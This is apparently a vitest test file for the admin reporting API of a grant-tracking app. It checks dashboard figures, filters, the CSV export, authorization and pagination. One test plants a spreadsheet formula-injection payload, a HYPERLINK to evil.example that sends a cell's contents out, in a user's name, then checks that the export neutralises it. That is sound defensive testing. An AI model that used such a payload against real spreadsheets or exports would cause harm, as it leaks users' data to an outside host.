// The research office's reports through the API: every figure agrees with the
// others and with the pipeline (dashboard, Grant Status, export, researcher
// detail), filters narrow them all alike, and only the institution's admins
// read them (researchers 403; others' ids 404; signed out and removed 401).
import { sql } from 'drizzle-orm';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fiscalYearOf } from '@grantbridge/contract/admin';
import { queryRows } from '../../db/client';
import { createTestApp, type TestApp } from '../../../test/test-app';
import { makeGrant, makePerson, setResearchAreas, type TestPerson } from '../../../test/factories';

let t: TestApp;
let admin: TestPerson & { domain: string };
let ana: TestPerson;
let ben: TestPerson;
let cy: TestPerson;
let otherAdmin: TestPerson;
let removedAdmin: TestPerson;

const get = (cookie: string | undefined, url: string) => t.app.inject({ method: 'GET', url, headers: cookie ? { cookie } : {} });
const patch = (cookie: string, url: string, payload: object) => t.app.inject({ method: 'PATCH', url, headers: { cookie }, payload });
const post = (cookie: string, url: string, payload: object) => t.app.inject({ method: 'POST', url, headers: { cookie }, payload });

async function apply(pi: TestPerson, grantId: string, steps: { status: string; by: 'pi' | 'admin'; amountAwarded?: number }[]) {
  const res = await post(pi.cookie, '/api/v1/applications', { grantId });
  expect(res.statusCode).toBe(201);
  const id = res.json().application.id as string;
  for (const step of steps) {
    const r = await patch(step.by === 'pi' ? pi.cookie : admin.cookie, `/api/v1/applications/${id}`, {
      status: step.status,
      ...(step.amountAwarded ? { amountAwarded: step.amountAwarded } : {}),
    });
    expect(r.statusCode, r.body).toBe(200);
  }
  return id;
}
const toReview = { status: 'internal_review', by: 'pi' } as const;
const submit = { status: 'submitted', by: 'admin' } as const;

beforeAll(async () => {
  t = await createTestApp();
  admin = await makePerson(t.db, 'Ada Office', 'admin', undefined);
  ana = await makePerson(t.db, 'Ana Biology', 'researcher', admin.domain);
  ben = await makePerson(t.db, 'Ben Physics', 'researcher', admin.domain);
  cy = await makePerson(t.db, 'Cy Biology', 'researcher', admin.domain);
  removedAdmin = await makePerson(t.db, 'Rem Oved', 'admin', admin.domain);
  otherAdmin = await makePerson(t.db, 'Oz Elsewhere', 'admin');
  await t.db.execute(sql`UPDATE users SET department = 'Biology' WHERE id IN (${ana.id}, ${cy.id})`);
  await t.db.execute(sql`UPDATE users SET department = 'Physics', last_sign_in_at = now() WHERE id = ${ben.id}`);
  await t.db.execute(sql`UPDATE users SET last_sign_in_at = now() - interval '40 days' WHERE id = ${cy.id}`);
  await setResearchAreas(t.db, ana.id, ['Marine Biology']);
  await setResearchAreas(t.db, ben.id, ['Marine Biology', 'Condensed Matter Physics']);
  const nsf = await makeGrant(t.db, { title: 'NSF reef grant', researchAreas: ['Marine Biology'] });
  const nih = await makeGrant(t.db, { title: 'NIH grant', agency: 'National Institutes of Health', agencyCode: 'HHS-NIH11' });
  const doe = await makeGrant(t.db, { title: 'DOE grant', agency: 'Department of Energy', agencyCode: 'DOE' });
  const more = await makeGrant(t.db, { title: 'Another NSF grant' });
  await makeGrant(t.db, { title: 'Closed marine grant', researchAreas: ['Marine Biology'], closeDate: '2001-01-01', status: 'closed' });
  await apply(ana, nsf.id, [toReview, submit, { status: 'awarded', by: 'admin', amountAwarded: 120000 }]);
  await apply(ben, doe.id, [toReview, submit, { status: 'awarded', by: 'admin', amountAwarded: 80000 }]);
  await apply(ben, nih.id, [toReview, submit, { status: 'rejected', by: 'admin' }]);
  await apply(cy, nih.id, [toReview]);
  await apply(cy, more.id, [toReview, submit]);
  await apply(ana, more.id, []);
  await t.db.execute(sql`UPDATE users SET status = 'deactivated' WHERE id = ${removedAdmin.id}`);
});
afterAll(() => t.close());

describe('GET /admin/overview', () => {
  it('counts funding, opportunities, pending applications and active researchers, all from the pipeline', async () => {
    const res = await get(admin.cookie, '/api/v1/admin/overview');
    expect(res.statusCode, res.body).toBe(200);
    const body = res.json();
    expect(body.period).toEqual(fiscalYearOf(new Date().toISOString().slice(0, 10)));
    expect(body.stats).toEqual({ totalFundingAchieved: 200000, openOpportunities: 1, pendingApplications: 2, activeResearchers: 1 });
    expect(body.researchersTotal).toBe(3);
    expect(body.opportunities).toEqual([{ grant: expect.objectContaining({ title: 'NSF reef grant' }), researchers: 2 }]);
    expect(body.fundingByAgency).toEqual([
      { name: 'National Science Foundation', amount: 120000, awards: 1 },
      { name: 'Department of Energy', amount: 80000, awards: 1 },
    ]);
    expect(body.fundingByDepartment).toEqual([
      { name: 'Biology', amount: 120000, awards: 1 },
      { name: 'Physics', amount: 80000, awards: 1 },
    ]);
    expect(body.departments).toEqual(['Biology', 'Physics']);
    const row = (name: string) => body.professorActivity.find((p: { researcher: { name: string } }) => p.researcher.name === name);
    expect(row('Ben Physics')).toMatchObject({ started: 2, submitted: 2, awarded: 1 });
    expect(row('Cy Biology')).toMatchObject({ started: 2, submitted: 1, awarded: 0 });
    expect(body.professorActivity.map((p: { researcher: { name: string } }) => p.researcher.name)).toEqual(['Ben Physics', 'Ana Biology', 'Cy Biology']); // awarded, then submitted, then started
    expect(body.timeline.map((x: { grantTitle: string }) => x.grantTitle)).toHaveLength(5); // 3 in progress, 2 awards
  });

  it('narrows every figure to a department and a period', async () => {
    const bio = (await get(admin.cookie, '/api/v1/admin/overview?department=Biology')).json();
    expect(bio.stats).toEqual({ totalFundingAchieved: 120000, openOpportunities: 1, pendingApplications: 2, activeResearchers: 0 });
    expect(bio.researchersTotal).toBe(2);
    // The reef grant fits Ana here (Cy has no areas); Ben, who fits it too, is in Physics.
    expect(bio.opportunities).toEqual([{ grant: expect.objectContaining({ title: 'NSF reef grant' }), researchers: 1 }]);
    const physics = (await get(admin.cookie, '/api/v1/admin/overview?department=Physics')).json();
    expect(physics.opportunities).toEqual([{ grant: expect.objectContaining({ title: 'NSF reef grant' }), researchers: 1 }]);
    expect((await get(admin.cookie, '/api/v1/admin/overview?department=Chemistry')).json().stats.openOpportunities).toBe(0);
    expect(bio.professorActivity.map((p: { researcher: { name: string } }) => p.researcher.name).sort()).toEqual(['Ana Biology', 'Cy Biology']);
    const old = (await get(admin.cookie, '/api/v1/admin/overview?from=2020-10-01&to=2021-09-30')).json();
    expect(old.period).toMatchObject({ from: '2020-10-01', to: '2021-09-30' });
    expect(old.stats.totalFundingAchieved).toBe(0);
    expect(old.fundingByAgency).toEqual([]);
    expect(old.stats.pendingApplications).toBe(2); // a state now, not a date
  });

  it('refuses an unknown status on Grant Status and its export, and a malformed researcher id', async () => {
    for (const url of [
      '/api/v1/admin/pipeline?status=won',
      '/api/v1/admin/pipeline.csv?status=won',
      '/api/v1/admin/pipeline.csv?from=2026-01-01',
      '/api/v1/admin/pipeline/applications',
      '/api/v1/admin/pipeline/applications?after=yesterday',
      '/api/v1/admin/pipeline/applications?after=2026-13-45T00:00:00.000000Z_00000000-0000-4000-8000-000000000000',
    ]) {
      const res = await get(admin.cookie, url);
      expect(res.statusCode, url).toBe(400);
      expect(res.json().code).toBe('validation_failed');
    }
    // Not an id at all: bad input (the page says "Researcher not found" for it too).
    const res = await get(admin.cookie, '/api/v1/admin/researchers/not-an-id');
    expect(res.statusCode).toBe(400);
    expect(res.json().code).toBe('validation_failed');
  });

  it('refuses a half or reversed period with validation_failed', async () => {
    for (const q of ['from=2026-01-01', 'from=2026-02-01&to=2026-01-01', 'from=2026-02-30&to=2026-03-01', 'color=red']) {
      const res = await get(admin.cookie, `/api/v1/admin/overview?${q}`);
      expect(res.statusCode, q).toBe(400);
      expect(res.json().code).toBe('validation_failed');
    }
  });
});

describe('GET /admin/pipeline and its CSV', () => {
  it('gives the four counts the dashboard agrees with, and the lists', async () => {
    const body = (await get(admin.cookie, '/api/v1/admin/pipeline')).json();
    expect(body.counts).toEqual({ awarded: 2, pendingReview: 1, applied: 1, rejected: 1 });
    const overview = (await get(admin.cookie, '/api/v1/admin/overview')).json();
    expect(body.counts.pendingReview + body.counts.applied).toBe(overview.stats.pendingApplications);
    expect(body.counts.awarded).toBe(overview.fundingByAgency.reduce((n: number, s: { awards: number }) => n + s.awards, 0));
    expect(body.applicationsTotal).toBe(6);
    expect(body.inProgress.map((r: { status: string }) => r.status).sort()).toEqual(['drafting', 'internal_review', 'submitted']);
    expect(body.alerts.filter((a: { kind: string }) => a.kind === 'waiting_review')).toHaveLength(1);
    expect(body.recentActivity.length).toBeGreaterThan(5);
    const pending = (await get(admin.cookie, '/api/v1/admin/pipeline?status=pending')).json();
    expect(pending.applicationsTotal).toBe(overview.stats.pendingApplications);
    expect(pending.applications.map((a: { status: string }) => a.status).sort()).toEqual(['internal_review', 'submitted']);
    // Everything live during a period: none of these existed in 2021.
    const old = (await get(admin.cookie, '/api/v1/admin/pipeline?from=2020-10-01&to=2021-09-30')).json();
    expect(old.applicationsTotal).toBe(0);
    expect(parse((await get(admin.cookie, '/api/v1/admin/pipeline.csv?from=2020-10-01&to=2021-09-30')).body)).toHaveLength(1);
    const awarded = (await get(admin.cookie, '/api/v1/admin/pipeline?status=awarded')).json();
    expect(awarded.applications.map((a: { amountAwarded: number }) => a.amountAwarded).sort()).toEqual([120000, 80000]);
    expect(awarded.applicationsTotal).toBe(2);
  });

  it('lists as live in a period what is still in progress though unchanged since before it, not what was decided before it', async () => {
    const moved = await queryRows<{ id: string; created_at: string; updated_at: string }>(
      t.db,
      sql`SELECT id, created_at::text, updated_at::text FROM applications WHERE user_id IN (${cy.id}, ${ana.id}) AND status IN ('internal_review', 'awarded')`,
    );
    expect(moved).toHaveLength(2);
    await t.db.execute(sql`UPDATE applications SET created_at = '2024-01-01', updated_at = '2024-02-01' WHERE id IN (${moved[0]!.id}, ${moved[1]!.id})`);
    try {
      const live = (await get(admin.cookie, '/api/v1/admin/pipeline?from=2025-01-01&to=2025-12-31')).json();
      expect(live.applicationsTotal).toBe(1);
      expect(live.applications.map((a: { status: string }) => a.status)).toEqual(['internal_review']);
      const before = (await get(admin.cookie, '/api/v1/admin/pipeline?from=2023-01-01&to=2023-12-31')).json();
      expect(before.applicationsTotal).toBe(0); // neither had started
    } finally {
      for (const m of moved) {
        await t.db.execute(sql`UPDATE applications SET created_at = ${m.created_at}::timestamptz, updated_at = ${m.updated_at}::timestamptz WHERE id = ${m.id}`);
      }
    }
  });

  it('exports the rows the same filter picks, numbers and ISO dates as spreadsheets read them', async () => {
    const res = await get(admin.cookie, '/api/v1/admin/pipeline.csv?status=awarded');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/attachment; filename="grant-pipeline-/);
    const rows = parse(res.body, { columns: true, bom: true }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual([
      'Researcher', 'Department', 'Grant', 'Opportunity number', 'Agency', 'Status', 'Requested', 'Awarded',
      'Sponsor deadline', 'Internal deadline', 'Last change',
    ]);
    expect(rows.map((r) => r.Awarded).sort()).toEqual(['120000', '80000']);
    expect(rows.every((r) => /^\d{4}-\d{2}-\d{2}$/.test(r['Last change']!) && /^\d{4}-\d{2}-\d{2}$/.test(r['Sponsor deadline']!))).toBe(true);
    const all = parse((await get(admin.cookie, '/api/v1/admin/pipeline.csv?department=Biology')).body, { columns: true, bom: true });
    const bio = (await get(admin.cookie, '/api/v1/admin/pipeline?department=Biology')).json();
    expect(all).toHaveLength(bio.applicationsTotal);
  });

  it('writes a name that looks like a formula as text, never a live formula (issue 27)', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A2,"Open")';
    const [before] = await queryRows<{ name: string }>(t.db, sql`SELECT name FROM users WHERE id = ${ana.id}`);
    await t.db.execute(sql`UPDATE users SET name = ${evil} WHERE id = ${ana.id}`);
    try {
      const cells = (parse((await get(admin.cookie, '/api/v1/admin/pipeline.csv')).body, { bom: true }) as string[][]).flat();
      expect(cells).toContain(`'${evil}`);
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    } finally {
      await t.db.execute(sql`UPDATE users SET name = ${before!.name} WHERE id = ${ana.id}`);
    }
  });
});

describe('GET /admin/researchers/:id', () => {
  it('shows the researcher with metrics counted as the dashboard counts', async () => {
    const res = await get(admin.cookie, `/api/v1/admin/researchers/${ben.id}`);
    expect(res.statusCode, res.body).toBe(200);
    const body = res.json();
    expect(body.profile).toMatchObject({ name: 'Ben Physics', department: 'Physics', researchAreas: ['Marine Biology', 'Condensed Matter Physics'] });
    expect(body.pipeline).toHaveLength(2);
    expect(body.metrics).toMatchObject({
      successRate: { value: 0.5, previous: null },
      submitted: { value: 2, previous: 0 },
      awarded: { value: 1, previous: 0 },
      fundingThisPeriod: { value: 80000, previous: 0 },
      fundingTotal: 80000,
      hasData: true,
    });
    const overview = (await get(admin.cookie, '/api/v1/admin/overview')).json();
    const row = overview.professorActivity.find((p: { researcher: { id: string } }) => p.researcher.id === ben.id);
    expect(row).toMatchObject({ submitted: body.metrics.submitted.value, awarded: body.metrics.awarded.value });
  });

  it('says there is no data yet for a researcher with none', async () => {
    const fresh = await makePerson(t.db, 'New Person', 'researcher', admin.domain);
    const body = (await get(admin.cookie, `/api/v1/admin/researchers/${fresh.id}`)).json();
    expect(body.metrics).toMatchObject({ hasData: false, successRate: { value: null, previous: null }, fundingTotal: 0 });
    expect(body.pipeline).toEqual([]);
  });
});

describe('who may read the reports', () => {
  const urls = () => [
    '/api/v1/admin/overview',
    '/api/v1/admin/pipeline',
    '/api/v1/admin/pipeline.csv',
    '/api/v1/admin/pipeline/applications?after=2099-01-01T00:00:00.000000Z_00000000-0000-4000-8000-000000000000',
    `/api/v1/admin/researchers/${ana.id}`,
  ];

  it('signed out and a removed admin: 401', async () => {
    for (const url of urls()) {
      expect((await get(undefined, url)).statusCode, url).toBe(401);
      expect((await get(removedAdmin.cookie, url)).statusCode, url).toBe(401);
    }
  });

  it('a researcher (the owner of the records included): 403 forbidden', async () => {
    for (const url of urls()) {
      const res = await get(ana.cookie, url);
      expect(res.statusCode, url).toBe(403);
      expect(res.json().code).toBe('forbidden');
    }
  });

  it('another institution’s admin counts nothing of ours and finds none of our researchers', async () => {
    const overview = (await get(otherAdmin.cookie, '/api/v1/admin/overview')).json();
    expect(overview.stats).toEqual({ totalFundingAchieved: 0, openOpportunities: 0, pendingApplications: 0, activeResearchers: 0 });
    expect((await get(otherAdmin.cookie, '/api/v1/admin/pipeline')).json().applicationsTotal).toBe(0);
    const page = await get(otherAdmin.cookie, '/api/v1/admin/pipeline/applications?after=2099-01-01T00:00:00.000000Z_00000000-0000-4000-8000-000000000000');
    expect(page.json()).toEqual({ applications: [], next: null });
    expect(parse((await get(otherAdmin.cookie, '/api/v1/admin/pipeline.csv')).body)).toHaveLength(1); // the header only
    const res = await get(otherAdmin.cookie, `/api/v1/admin/researchers/${ana.id}`);
    expect(res.statusCode).toBe(404);
    expect(res.json().code).toBe('not_found');
  });

  it('the institution’s own admin reads them; an admin or unknown id is not a researcher: 404', async () => {
    for (const url of urls()) expect((await get(admin.cookie, url)).statusCode, url).toBe(200);
    expect((await get(admin.cookie, `/api/v1/admin/researchers/${admin.id}`)).statusCode).toBe(404);
    expect((await get(admin.cookie, '/api/v1/admin/researchers/00000000-0000-4000-8000-000000000000')).statusCode).toBe(404);
  });
});

describe('the report keys the database keeps on each application (decision 038)', () => {
  it('follow a PI who changes department and a grant the catalogue relabels or moves', async () => {
    const slices = async () => (await get(admin.cookie, '/api/v1/admin/overview')).json();
    await t.db.execute(sql`UPDATE users SET department = 'Chemistry' WHERE id = ${ben.id}`);
    await t.db.execute(sql`UPDATE grants SET agency = 'Office of Science' WHERE title = 'DOE grant'`);
    try {
      const moved = await slices();
      expect(moved.fundingByDepartment).toEqual([
        { name: 'Biology', amount: 120000, awards: 1 },
        { name: 'Chemistry', amount: 80000, awards: 1 },
      ]);
      expect(moved.fundingByAgency).toContainEqual({ name: 'Office of Science', amount: 80000, awards: 1 });
      const chemistry = (await get(admin.cookie, '/api/v1/admin/pipeline?department=Chemistry&status=awarded')).json();
      expect(chemistry.counts.awarded).toBe(1);
      // Written by no one but the triggers: a direct write is put back from the PI and the grant.
      await t.db.execute(sql`UPDATE applications SET pi_department = 'Forged', grant_agency = 'Forged' WHERE user_id = ${ben.id}`);
      const [kept] = await queryRows<{ n: number }>(
        t.db,
        sql`SELECT count(*)::int AS n FROM applications WHERE user_id = ${ben.id} AND (pi_department = 'Forged' OR grant_agency = 'Forged')`,
      );
      expect(kept!.n).toBe(0);
      // The timeline orders by the grant's close date as the catalogue has it now.
      await t.db.execute(sql`UPDATE grants SET close_date = current_date + 10 WHERE title = 'Another NSF grant'`);
      const timeline = (await slices()).timeline as { grantTitle: string; status: string }[];
      const open = timeline.filter((x) => x.status !== 'awarded').map((x) => x.grantTitle);
      expect(open.slice(0, 2)).toEqual(['Another NSF grant', 'Another NSF grant']); // the others close in 2099
    } finally {
      await t.db.execute(sql`UPDATE users SET department = 'Physics' WHERE id = ${ben.id}`);
      await t.db.execute(sql`UPDATE grants SET agency = 'Department of Energy' WHERE title = 'DOE grant'`);
      await t.db.execute(sql`UPDATE grants SET close_date = '2099-01-01' WHERE title = 'Another NSF grant'`);
    }
    expect((await slices()).fundingByDepartment).toContainEqual({ name: 'Physics', amount: 80000, awards: 1 });
  });

  it('count a decline on the day of its latest stage change to rejected, which no write can forge', async () => {
    const [app] = await queryRows<{ id: string }>(t.db, sql`SELECT id FROM applications WHERE user_id = ${ben.id} AND status = 'rejected'`);
    const rejected = async (query = '') =>
      (await get(admin.cookie, `/api/v1/admin/pipeline?status=rejected${query}`)).json() as { counts: { rejected: number }; applications: { id: string }[] };
    const fy2021 = '&from=2020-10-01&to=2021-09-30';
    await t.db.execute(sql`UPDATE applications SET declined_at = '2021-03-01' WHERE id = ${app!.id}`);
    expect((await rejected()).counts.rejected).toBe(1);
    expect((await rejected(fy2021)).counts.rejected).toBe(0);
    // Were the history to say the decline happened in 2021, the reports follow it.
    await t.db.execute(sql`UPDATE application_events SET created_at = '2021-03-01T12:00:00Z' WHERE application_id = ${app!.id} AND to_status = 'rejected'`);
    try {
      const then = await rejected(fy2021);
      expect(then.counts.rejected).toBe(1);
      expect(then.applications.map((a) => a.id)).toEqual([app!.id]);
      expect((await rejected()).counts.rejected).toBe(0);
      const detail = (await get(admin.cookie, `/api/v1/admin/researchers/${ben.id}`)).json();
      expect(detail.metrics.successRate.value).toBe(1); // this year: one award, the decline was in 2021
    } finally {
      await t.db.execute(sql`UPDATE application_events SET created_at = now() WHERE application_id = ${app!.id} AND to_status = 'rejected'`);
    }
    expect((await rejected()).applications.map((a) => a.id)).toEqual([app!.id]);
  });
});

describe('the most saved grants', () => {
  it('count the active people in scope who saved each, by keys that follow each person and no write can forge', async () => {
    const put = (who: TestPerson, grantId: string) => t.app.inject({ method: 'PUT', url: `/api/v1/grants/${grantId}/bookmark`, headers: { cookie: who.cookie } });
    const [reef] = await queryRows<{ id: string }>(t.db, sql`SELECT id FROM grants WHERE title = 'NSF reef grant'`);
    const [doe] = await queryRows<{ id: string }>(t.db, sql`SELECT id FROM grants WHERE title = 'DOE grant'`);
    for (const [who, grant] of [[ana, reef!.id], [cy, reef!.id], [ben, doe!.id]] as const) expect((await put(who, grant)).statusCode).toBe(200);
    const saved = async (query = '') =>
      ((await get(admin.cookie, `/api/v1/admin/pipeline${query}`)).json().savedGrants as { grant: { title: string }; count: number; savedBy: { name: string }[] }[]).map(
        (s) => [s.grant.title, s.count, s.savedBy.map((p) => p.name).sort().join(', ')],
      ).sort((a, b) => Number(b[1]) - Number(a[1]) || String(a[0]).localeCompare(String(b[0]))); // ties: any order
    try {
      expect(await saved()).toEqual([['NSF reef grant', 2, 'Ana Biology, Cy Biology'], ['DOE grant', 1, 'Ben Physics']]);
      expect(await saved('?department=Biology')).toEqual([['NSF reef grant', 2, 'Ana Biology, Cy Biology']]);
      // A removed member's saves stop counting; a move of department takes them along.
      await t.db.execute(sql`UPDATE users SET status = 'deactivated' WHERE id = ${cy.id}`);
      await t.db.execute(sql`UPDATE users SET department = 'Biology' WHERE id = ${ben.id}`);
      expect(await saved('?department=Biology')).toEqual([['DOE grant', 1, 'Ben Physics'], ['NSF reef grant', 1, 'Ana Biology']]);
      await t.db.execute(sql`UPDATE saved_grants SET saver_active = true, saver_department = 'Forged' WHERE user_id = ${cy.id}`);
      expect(await saved('?department=Biology')).toEqual([['DOE grant', 1, 'Ben Physics'], ['NSF reef grant', 1, 'Ana Biology']]);
    } finally {
      await t.db.execute(sql`UPDATE users SET status = 'active' WHERE id = ${cy.id}`);
      await t.db.execute(sql`UPDATE users SET department = 'Physics' WHERE id = ${ben.id}`);
      await t.db.execute(sql`DELETE FROM saved_grants WHERE user_id IN (${ana.id}, ${ben.id}, ${cy.id})`);
    }
  });
});

describe('the Grant Status list a page at a time', () => {
  it('walks every application the filter picks once, in the export’s order, ties broken by id', async () => {
    // 120 people of one department, each with an application changed at the same moment; half declined at one moment too.
    const [grant] = await queryRows<{ id: string }>(t.db, sql`SELECT id FROM grants WHERE title = 'NIH grant'`);
    const [inst] = await queryRows<{ institution_id: string }>(t.db, sql`SELECT institution_id FROM users WHERE id = ${admin.id}`);
    await t.db.execute(sql`
      INSERT INTO users (institution_id, email, role, name, department, setup_complete)
      SELECT ${inst!.institution_id}, 'pager' || g || '@' || ${admin.domain}, 'researcher', 'Pager ' || g, 'Paging', true FROM generate_series(1, 120) g`);
    await t.db.execute(sql`
      INSERT INTO applications (user_id, grant_id, status, created_at, updated_at)
      SELECT u.id, ${grant!.id}, CASE WHEN u.name ~ '[02468]$' THEN 'rejected' ELSE 'drafting' END, now(), '2026-11-20T10:00:00Z'
      FROM users u WHERE u.department = 'Paging'`);
    await t.db.execute(sql`
      INSERT INTO application_events (application_id, actor_id, from_status, to_status, created_at)
      SELECT a.id, ${admin.id}, 'submitted', 'rejected', now() - interval '1 hour'
      FROM applications a JOIN users u ON u.id = a.user_id WHERE u.department = 'Paging' AND a.status = 'rejected'`);
    try {
      for (const [status, expected] of [['all', 120], ['rejected', 60]] as const) {
        const first = (await get(admin.cookie, `/api/v1/admin/pipeline?department=Paging&status=${status}`)).json();
        expect(first.applicationsTotal).toBe(expected);
        expect(first.applications).toHaveLength(50);
        const ids: string[] = first.applications.map((a: { id: string }) => a.id);
        let next: string | null = first.applicationsNext;
        while (next) {
          const res = await get(admin.cookie, `/api/v1/admin/pipeline/applications?department=Paging&status=${status}&after=${next}`);
          expect(res.statusCode, res.body).toBe(200);
          ids.push(...res.json().applications.map((a: { id: string }) => a.id));
          next = res.json().next;
        }
        expect(ids).toHaveLength(expected);
        expect(new Set(ids).size).toBe(expected);
        expect(ids).toEqual([...ids].sort().reverse()); // one moment for all: by id, descending
      }
      const exported = parse((await get(admin.cookie, '/api/v1/admin/pipeline.csv?department=Paging')).body) as string[][];
      expect(exported).toHaveLength(121);
    } finally {
      await t.db.execute(sql`DELETE FROM users WHERE department = 'Paging'`);
    }
  });
});
